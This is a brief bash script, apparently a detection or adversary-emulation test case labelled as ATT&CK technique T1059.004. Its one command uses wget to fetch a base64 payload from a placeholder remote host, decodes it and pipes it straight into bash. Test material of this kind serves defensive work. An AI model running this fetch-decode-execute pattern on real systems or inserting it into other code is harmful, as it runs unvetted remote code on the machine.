#!/usr/bin/env bash
# tactic: execution
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# behaviour: a base64-encoded script fetched with wget, decoded and run by bash
# as: user
# needs: remote
# expect: decode_and_run
set -u
wget -qO- -T 5 http://$SNTL_REMOTE/p.b64 | base64 -d | bash
